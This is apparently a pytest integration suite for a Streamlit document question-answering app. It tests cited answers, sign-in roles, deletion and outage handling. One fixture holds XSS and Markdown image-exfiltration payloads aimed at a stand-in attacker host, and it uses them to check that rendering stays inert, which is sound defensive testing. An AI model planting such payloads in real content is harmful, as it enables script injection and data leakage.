"""The Streamlit app under AppTest: a question gets an answer and its source."""

from __future__ import annotations

import re

import pytest
from conftest import ROOT
from streamlit.testing.v1 import AppTest

pytestmark = pytest.mark.integration

APP = str(ROOT / "ui" / "app.py")


def as_read(markdown: str) -> str:
    """What a person reads: labels are escaped Markdown (ui.render.inert)."""
    return re.sub(r"\\(.)", r"\1", markdown)


@pytest.fixture
def app_store(ingested, monkeypatch):
    pipeline, _ = ingested
    monkeypatch.setenv("RAGAPP_STORE_DIR", str(pipeline.settings.store_dir))
    monkeypatch.setenv("RAGAPP_UPLOAD_DIR", str(pipeline.settings.store_dir.parent / "uploads"))
    return pipeline


def test_question_gets_an_answer_with_its_source(app_store):
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    assert not at.exception
    assert any("Documents (" in s.value for s in at.sidebar.subheader)
    at.chat_input[0].set_value("How many days of paid annual leave do full-time employees get?").run()
    assert not at.exception
    messages = at.chat_message
    assert [m.name for m in messages] == ["user", "assistant"]
    answer = messages[1]
    assert answer.markdown[0].value.strip()
    sources = [as_read(e.label) for e in answer.expander]
    assert any("handbook/leave-policy.md" in label for label in sources), (answer.markdown[0].value, sources)
    # Each source names the headings its passage sits under.
    assert any("Leave policy › Annual leave" in label for label in sources), sources
    # Under the answer: how it was produced.
    assert any("Written by the model" in c.value or "Quoted from the passages" in c.value for c in answer.caption)
    # The cited passage is inside the expander, marked in its surrounding text, escaped.
    shown = [h.proto.body for e in answer.expander for h in e.get("html")]
    assert any("<mark>" in body and "27 days" in body.split("<mark>")[1] for body in shown), shown
    assert any(as_read(b.proto.label).startswith("Download leave-policy.md") for e in answer.expander for b in e.get("download_button"))


def test_empty_store_shows_how_to_start(tmp_path, monkeypatch):
    monkeypatch.setenv("RAGAPP_STORE_DIR", str(tmp_path / "empty"))
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    assert not at.exception
    assert any("No documents yet" in i.value for i in at.sidebar.info)
    at.chat_input[0].set_value("Anything?").run()
    assert "no documents in this collection" in at.chat_message[1].markdown[0].value


def test_a_follow_up_is_answered_from_the_topic_before_it(app_store):
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    at.chat_input[0].set_value("How many weeks of parental leave do birth parents get?").run()
    at.chat_input[0].set_value("And for adoptive parents?").run()
    assert not at.exception
    follow_up = at.chat_message[3]
    assert any("Searched as a follow-up: How many weeks of parental leave" in c.value for c in follow_up.caption)
    sources = [as_read(e.label) for e in follow_up.expander]
    assert any("Parental leave" in label for label in sources), (follow_up.markdown[0].value, sources)
    new = [b for b in at.button if b.label == "New conversation"]
    assert new
    new[0].click().run()
    assert not at.chat_message


def test_search_in_restricts_questions_to_the_chosen_file_types(app_store):
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    at.sidebar.multiselect(key="filter-types-default").set_value(["pdf"]).run()
    at.chat_input[0].set_value("How many days of paid annual leave do full-time employees get?").run()
    assert not at.exception
    labels = [as_read(e.label) for e in at.chat_message[1].expander]
    assert labels and all(label.startswith("benefits-guide.pdf") or "benefits-guide.pdf" in label for label in labels), labels


PASSWORD = "correct horse battery"
TRAP = (
    "# Canteen <script>window.__pwned=1</script> ![x](http://attacker.invalid/h.png)\n\n"
    "The canteen opens at 7:15 every weekday and closes at 15:00. "
    "<script>window.__pwned=1</script> <img src=x onerror=alert(1)> "
    "![x](http://attacker.invalid/leak.png?q=secret) [click](http://attacker.invalid/).\n"
)


@pytest.fixture
def team_app(ingested, tmp_path, monkeypatch):
    """The ingested store with sign-in on: boss (admin) and rita, who may read the default collection."""
    pipeline, _ = ingested
    monkeypatch.setenv("RAGAPP_STORE_DIR", str(pipeline.settings.store_dir))
    monkeypatch.setenv("RAGAPP_UPLOAD_DIR", str(tmp_path / "uploads"))
    monkeypatch.setenv("RAGAPP_APP_DB", str(tmp_path / "app.sqlite"))
    monkeypatch.setenv("RAGAPP_SIGN_IN", "accounts")
    from ragapp.accounts import Accounts

    accounts = Accounts(tmp_path / "app.sqlite")
    accounts.add("boss", "admin", PASSWORD)
    accounts.add("rita", "reader", PASSWORD)
    accounts.grant("rita", "default", "read")
    return pipeline


def _sign_in(at: AppTest, name: str, password: str) -> AppTest:
    at.text_input(key="sign-in-name").input(name)
    at.text_input(key="sign-in-password").input(password)
    return next(b for b in at.button if b.label == "Sign in").click().run()


def test_a_wrong_password_is_refused_and_a_reader_may_only_ask(team_app):
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    assert not at.chat_input and any(h.value == "Sign in" for h in at.header)
    _sign_in(at, "rita", "correct horse batter")
    assert any("Wrong name or password" in e.value for e in at.error)
    assert not at.chat_input
    _sign_in(at, "nobody", PASSWORD)
    assert any("Wrong name or password" in e.value for e in at.error) and not at.chat_input
    _sign_in(at, "rita", PASSWORD)
    assert not at.exception
    assert at.chat_input and any("Signed in as **rita** (reader)" in c.value for c in at.sidebar.caption)
    # A reader: no upload, no delete buttons, documents listed.
    assert not at.get("file_uploader")
    assert not [b for b in at.button if (b.key or "").startswith("delete-")]
    assert any("Documents (" in s.value for s in at.sidebar.subheader)
    at.chat_input[0].set_value("How many days of paid annual leave do full-time employees get?").run()
    assert "27" in at.chat_message[1].markdown[0].value
    # The conversation is kept, listed for its owner, found by a search, deleted.
    listed = [b for b in at.sidebar.button if (b.key or "").startswith("open-")]
    assert len(listed) == 1 and "paid annual leave" in as_read(listed[0].label)
    at.sidebar.text_input(key="history-search").input("zephyr").run()
    assert not [b for b in at.sidebar.button if (b.key or "").startswith("open-")]
    at.sidebar.text_input(key="history-search").input("ANNUAL").run()
    assert [b for b in at.sidebar.button if (b.key or "").startswith("open-")]
    next(b for b in at.sidebar.button if (b.key or "").startswith("forget-")).click().run()
    assert not [b for b in at.sidebar.button if (b.key or "").startswith("open-")]


def test_an_admin_sees_upload_and_delete_and_the_others_do_not_see_her_history(team_app):
    boss = AppTest.from_file(APP, default_timeout=300)
    boss.run()
    _sign_in(boss, "boss", PASSWORD)
    assert boss.get("file_uploader") and [b for b in boss.button if (b.key or "").startswith("delete-")]
    boss.chat_input[0].set_value("What is the total budget of the Lighthouse project?").run()
    assert [b for b in boss.sidebar.button if (b.key or "").startswith("open-")]
    rita = AppTest.from_file(APP, default_timeout=300)
    rita.run()
    _sign_in(rita, "rita", PASSWORD)
    assert not [b for b in rita.sidebar.button if (b.key or "").startswith("open-")]
    # Reopening a conversation brings its answer back, sources included.
    fresh = AppTest.from_file(APP, default_timeout=300)
    fresh.run()
    _sign_in(fresh, "boss", PASSWORD)
    next(b for b in fresh.sidebar.button if (b.key or "").startswith("open-")).click().run()
    assert not fresh.exception
    assert [m.name for m in fresh.chat_message] == ["user", "assistant"]
    assert "84,000" in fresh.chat_message[1].markdown[0].value
    assert fresh.chat_message[1].expander


def test_a_document_holding_html_and_remote_images_is_shown_inert(tmp_path, monkeypatch, real_embedder, real_generator):
    from ragapp.pipeline import Pipeline
    from ragapp.settings import Settings

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "canteen <b>menu<b> ![y](attacker.invalid).md").write_text(TRAP)
    store = tmp_path / "store"
    Pipeline(Settings(store_dir=store), embedder=real_embedder, generator=real_generator).ingest([docs])
    monkeypatch.setenv("RAGAPP_STORE_DIR", str(store))
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    at.chat_input[0].set_value("When does the canteen open?").run()
    assert not at.exception
    answer = at.chat_message[1]
    markdown = [m.value for m in answer.markdown] + [e.label for e in answer.expander] + [c.value for c in answer.caption]
    markdown += [m.value for m in at.sidebar.markdown]
    for text in markdown:  # every opener escaped: no tag, no image, no link can form
        assert not re.search(r"(?<!\\)[<>!\[\]()]", text), text
    # The text is there to read, shown as written.
    assert any("\\<script\\>window" in text for text in markdown), markdown
    assert any("\\!\\[x\\]\\(http" in text for text in markdown), markdown
    for element in answer.markdown:
        assert not element.proto.allow_html
    # The source opened: the document's characters escaped inside our own <mark>.
    html_bodies = [h.proto.body for e in answer.expander for h in e.get("html")]
    assert html_bodies and all("<script" not in body and "<img" not in body for body in html_bodies)
    assert any("&lt;script&gt;" in body for body in html_bodies)


def test_a_stopped_chroma_server_is_reported_and_the_app_answers_again_once_it_is_back(tmp_path, monkeypatch, caplog):
    from store_server import ChromaServer

    from integration.helpers import run_cli

    server = ChromaServer(tmp_path / "chroma").start()
    store = tmp_path / "store"
    try:
        ingested = run_cli(["ingest", str(ROOT / "data" / "sample")], store, RAGAPP_CHROMA_URL=server.url)
        assert ingested.returncode == 0, ingested.stderr
        for name, value in {"RAGAPP_STORE_DIR": str(store), "RAGAPP_CHROMA_URL": server.url, "RAGAPP_CHROMA_TIMEOUT_S": "5"}.items():
            monkeypatch.setenv(name, value)
        question = "How many days of paid annual leave do full-time employees get?"
        at = AppTest.from_file(APP, default_timeout=300)
        at.run()
        at.chat_input[0].set_value(question).run()
        assert not at.exception and any("leave-policy.md" in as_read(e.label) for e in at.chat_message[1].expander)

        server.stop()
        at.chat_input[0].set_value(question).run()
        assert not at.exception, "the app stays up"
        shown = " ".join(as_read(e.value) for e in at.error).replace("\u200b", "")  # inert() breaks addresses
        assert f"the Chroma server at {server.url} cannot be reached" in shown, shown
        # The log has what happened, with its traceback.
        failures = [r for r in caplog.records if r.name == "ragapp.app" and r.exc_info]
        assert failures and "StoreUnavailable" in caplog.text

        server.start()
        at.chat_input[0].set_value(question).run()
        assert not at.exception
        latest = at.chat_message[-1]
        assert latest.name == "assistant" and any("leave-policy.md" in as_read(e.label) for e in latest.expander)
    finally:
        server.stop()


def test_a_model_server_that_is_down_is_reported_under_the_quoted_answer(app_store, monkeypatch):
    from ragapp.store.server import free_port

    url = f"http://127.0.0.1:{free_port()}/v1"  # nothing listens there
    monkeypatch.setenv("RAGAPP_LLM_URL", url)
    monkeypatch.setenv("RAGAPP_LLM_TIMEOUT_S", "2")
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    assert not at.exception
    at.chat_input[0].set_value("How many days of paid annual leave do full-time employees get?").run()
    assert not at.exception
    answer = at.chat_message[1]
    assert "27 days" in answer.markdown[0].value
    captions = " ".join(as_read(c.value) for c in answer.caption)
    assert "No sentence from the model" in captions and "cannot be reached" in captions, captions
    # The app stays up: the next question is answered the same way.
    at.chat_input[0].set_value("What is the daily meal allowance when travelling?").run()
    assert not at.exception and "45 euros" in at.chat_message[3].markdown[0].value


@pytest.fixture
def own_team_app(tmp_path, monkeypatch, real_embedder, real_generator):
    """A store of its own (this test deletes from it): the handbook, boss (admin), rita (reader)."""
    import shutil

    from conftest import SAMPLE

    from ragapp.pipeline import Pipeline
    from ragapp.settings import Settings

    shutil.copytree(SAMPLE / "handbook", tmp_path / "docs" / "handbook")
    settings = Settings(store_dir=tmp_path / "store", app_db=tmp_path / "app.sqlite")
    pipeline = Pipeline(settings, embedder=real_embedder, generator=real_generator)
    pipeline.ingest([tmp_path / "docs"])
    monkeypatch.setenv("RAGAPP_STORE_DIR", str(settings.store_dir))
    monkeypatch.setenv("RAGAPP_UPLOAD_DIR", str(tmp_path / "uploads"))
    monkeypatch.setenv("RAGAPP_APP_DB", str(tmp_path / "app.sqlite"))
    monkeypatch.setenv("RAGAPP_SIGN_IN", "accounts")
    pipeline.accounts.add("boss", "admin", PASSWORD)
    pipeline.accounts.add("rita", "reader", PASSWORD)
    pipeline.accounts.grant("rita", "default", "read")
    return pipeline


def _source_labels(message) -> list[str]:
    return [as_read(e.label) for e in message.expander]


def _downloads(message) -> list[str]:
    return [as_read(b.proto.label) for e in message.expander for b in e.get("download_button")]


def test_a_delete_is_confirmed_first_and_then_old_citations_are_no_longer_available(own_team_app):
    rita = AppTest.from_file(APP, default_timeout=300)
    rita.run()
    _sign_in(rita, "rita", PASSWORD)
    assert not rita.exception, rita.exception
    assert rita.chat_input, ([e.value for e in rita.error], [i.value for i in rita.info], [h.value for h in rita.header])
    rita.chat_input[0].set_value("How many days of paid annual leave do full-time employees get?").run()
    assert any("leave-policy.md" in label for label in _source_labels(rita.chat_message[1]))
    assert "Download leave-policy.md" in _downloads(rita.chat_message[1])

    boss = AppTest.from_file(APP, default_timeout=300)
    boss.run()
    _sign_in(boss, "boss", PASSWORD)
    leave = next(r for r in own_team_app.store().documents() if r.source.endswith("leave-policy.md"))
    boss.button(key=f"delete-{leave.doc_id}").click().run()
    # The first click only asks, naming what would go; nothing is deleted yet.
    assert any("Delete 1 document from default: leave-policy.md?" in as_read(w.value) for w in boss.sidebar.warning)
    assert own_team_app.store().record(leave.doc_id) is not None
    boss.button(key="sidebar-delete-cancel").click().run()
    assert not boss.sidebar.warning and own_team_app.store().record(leave.doc_id) is not None
    boss.button(key=f"delete-{leave.doc_id}").click().run()
    boss.button(key="sidebar-delete-confirm").click().run()
    assert not boss.exception
    assert any("Deleted leave-policy.md." in as_read(s.value) for s in boss.sidebar.success)
    assert own_team_app.store().record(leave.doc_id) is None

    # Rita's open conversation: the citation is no longer opened, nor offered for download.
    rita.run()
    assert not rita.exception
    labels = _source_labels(rita.chat_message[1])
    assert "[1] no longer available" in labels and not any("leave-policy.md" in label for label in labels), labels
    assert not _downloads(rita.chat_message[1])
    # Reopened from her history: the same.
    again = AppTest.from_file(APP, default_timeout=300)
    again.run()
    _sign_in(again, "rita", PASSWORD)
    next(b for b in again.sidebar.button if (b.key or "").startswith("open-")).click().run()
    assert "[1] no longer available" in _source_labels(again.chat_message[1])
    assert not _downloads(again.chat_message[1])
    # The audit log names who deleted what, and rita's two sign-ins.
    events = [(e.actor, e.action, e.detail) for e in own_team_app.accounts.audit.events()]
    assert ("boss", "document deleted", "handbook/leave-policy.md") in events, events
    assert sum(1 for actor, action, _ in events if (actor, action) == ("rita", "sign-in")) == 2, events


def test_revoking_a_grant_ends_a_readers_open_citations(own_team_app):
    rita = AppTest.from_file(APP, default_timeout=300)
    rita.run()
    _sign_in(rita, "rita", PASSWORD)
    rita.chat_input[0].set_value("How much is the daily meal allowance when travelling?").run()
    assert "Download expenses.md" in _downloads(rita.chat_message[1])
    own_team_app.accounts.revoke("rita", "default")
    rita.run()
    assert not rita.exception
    # Her next step shows nothing of the collection: not the conversation, not its sources.
    assert not rita.chat_message and not rita.get("download_button")
    assert any("Ask an administrator to give you access" in i.value for i in rita.info)
    # Given back read access to the collection, but the document deleted meanwhile: no longer available.
    meals = next(r for r in own_team_app.store().documents() if r.source.endswith("expenses.md"))
    own_team_app.delete_document(meals.doc_id, "default")
    own_team_app.accounts.grant("rita", "default", "read")
    again = AppTest.from_file(APP, default_timeout=300)
    again.run()
    _sign_in(again, "rita", PASSWORD)
    next(b for b in again.sidebar.button if (b.key or "").startswith("open-")).click().run()
    assert "[1] no longer available" in _source_labels(again.chat_message[1]) and not _downloads(again.chat_message[1])


def test_two_people_deleting_while_a_third_uploads_delete_exactly_what_they_confirmed(own_team_app):
    import threading

    from ragapp.accounts import LOCAL_USER
    from ragapp.workspace import Workspace

    own_team_app.accounts.add("ada", "admin", PASSWORD)
    by_name = {r.source: r for r in own_team_app.store().documents()}
    first, second = by_name["handbook/expenses.md"], by_name["handbook/onboarding.md"]
    boss, ada = AppTest.from_file(APP, default_timeout=300), AppTest.from_file(APP, default_timeout=300)
    for session, name in ((boss, "boss"), (ada, "ada")):
        session.run()
        _sign_in(session, name, PASSWORD)
    boss.button(key=f"delete-{first.doc_id}").click().run()
    ada.button(key=f"delete-{second.doc_id}").click().run()
    assert any("expenses.md?" in as_read(w.value) for w in boss.sidebar.warning)
    assert any("onboarding.md?" in as_read(w.value) for w in ada.sidebar.warning)
    # Meanwhile someone uploads: the lists both were shown have changed under them.
    uploader = Workspace(own_team_app, LOCAL_USER)
    upload = threading.Thread(target=uploader.upload, args=([("parking.md", b"# Parking\n\nPark in the north garage.\n")], "default"))
    upload.start()
    boss.button(key="sidebar-delete-confirm").click().run()
    ada.button(key="sidebar-delete-confirm").click().run()
    upload.join(120)
    assert not boss.exception and not ada.exception
    left = sorted(r.source for r in own_team_app.store().documents())
    assert left == ["handbook/leave-policy.md", "handbook/remote-work.md", "parking.md"], left
